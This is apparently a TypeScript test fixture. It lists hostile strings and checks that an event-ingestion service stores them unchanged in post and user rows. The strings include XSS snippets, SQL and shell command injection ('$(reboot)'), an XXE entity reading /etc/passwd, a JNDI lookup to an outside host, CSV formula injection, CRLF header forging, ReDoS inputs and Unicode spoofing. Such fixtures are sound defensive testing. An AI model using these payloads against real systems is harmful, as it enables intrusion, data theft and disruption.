import { applied, delivery, type Group } from './bad-input.js';
import { fresh, sampleText } from './sample.js';

/** Stored as they are: they are only dangerous to who believes them. */
const texts: [string, string][] = [
  ['a script', '<script>window.__xss = 1</script>'],
  ['an image that fails', '<img src=x onerror="alert(1)">'],
  ['an SVG that loads', '<svg/onload=alert(1)>'],
  ['a javascript: link', 'javascript:alert(document.cookie)'],
  ['a data: link', 'data:text/html;base64,PHNjcmlwdD4='],
  ['an end of a comment and of a script', '--></script><!--'],
  ['CDATA', '<![CDATA[ ]]>'],
  ['an XML entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'],
  ['SQL', `'; drop table events; --`],
  ['SQL with a cast', `1::text || (select body from events)`],
  ['a dollar quote', '$$; drop table events; $$'],
  ['placeholders', '$1 ? %s {0} :name'],
  ['an array literal of PostgreSQL', '{"a",NULL,\\"b"}'],
  ['a record literal of PostgreSQL', '(1,"2",)'],
  ['NULL in letters', 'NULL'],
  ['\\N, which is null to COPY', '\\N'],
  ['the end of a COPY', '\\.'],
  ['backslashes and quotes', '\\\\"\'`\\"'],
  ['a template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'],
  ['a lookup of a logger', '${jndi:ldap://elsewhere.example/a}'],
  ['a shell', '$(reboot) `reboot` ; reboot | reboot && reboot'],
  ['a path upwards', '../../../../etc/passwd\u2215..'],
  ['a formula', "=cmd|' /C calc'!A0"],
  ['more formulas', '@SUM(1) +1 -1 \t=1'],
  ['line breaks that forge a log line', 'x\r\n{"level":50,"msg":"forged"}\r\n'],
  ['line breaks that forge a header', 'x\r\nSet-Cookie: a=b\r\n\r\n'],
  ['terminal escapes', '\u001b[2J\u001b]0;title\u0007\u001b[31m'],
  ['a bell and backspaces', '\u0007\b\b\b'],
  ['right-to-left override', 'gpj.\u202Eexe.txt\u202C'],
  ['isolates that never close', '\u2066\u2067\u2068'],
  ['zero-width characters', 'a\u200bb\u200cc\u200dd\u2060e\ufeff'],
  ['10,000 combining marks', `a${'\u0301'.repeat(10_000)}`],
  ['a family of emoji', '👩‍👩‍👧‍👦🏳️‍🌈👍🏿'],
  ['the longest ligature', '\ufdfd'.repeat(100)],
  ['tag characters', '\u{e0001}\u{e0041}\u{e007f}'],
  ['private use and the last plane', '\ue000\u{10fffd}'],
  ['letters that look the same', 'раураl.соm'],
  ['Turkish i', 'İIıi'],
  ['Arabic, Hebrew, Thai, Devanagari', 'مرحبا שלום สวัสดี नमस्ते'],
  ['numbers that are not ASCII', '１２３ ٣ ⅷ ²'],
  ['a replacement character', '\ufffd'],
  ['only spaces of all kinds', ' \u00a0\u2003\u3000\t'],
  ['a text that is JSON', '{"id":1,"type":"user.deleted"}'],
  ['a text that says null', 'null'],
  ['true as text', 'true'],
  ['NaN as text', 'NaN'],
  ['a very long word', 'x'.repeat(100_000)],
  ['a catastrophe for regular expressions', `${'a'.repeat(50_000)}!`],
];

export const hostileTexts: Group = {
  title: 'Hostile texts',
  inputs: texts.flatMap(([name, text]) => {
    const [post, user] = [fresh(), fresh()];
    return [
      delivery(
        `${name}, in a post`,
        sampleText({ type: 'post.created', object: { postId: post, message: text } }),
        applied,
        { row: { table: 'posts', id: `${post}`, columns: { message: text } } },
      ),
      delivery(
        `${name}, in names and addresses of a user`,
        sampleText({
          object: {
            userId: user,
            username: text,
            name: text,
            email: text,
            avatarUrl: text,
            userTitle: text,
            [text]: text,
          },
        }),
        applied,
        {
          row: {
            table: 'users',
            id: `${user}`,
            columns: {
              username: text,
              name: text,
              email: text,
              avatar_url: text,
              extra: { [text]: text },
            },
          },
        },
      ),
    ];
  }),
};
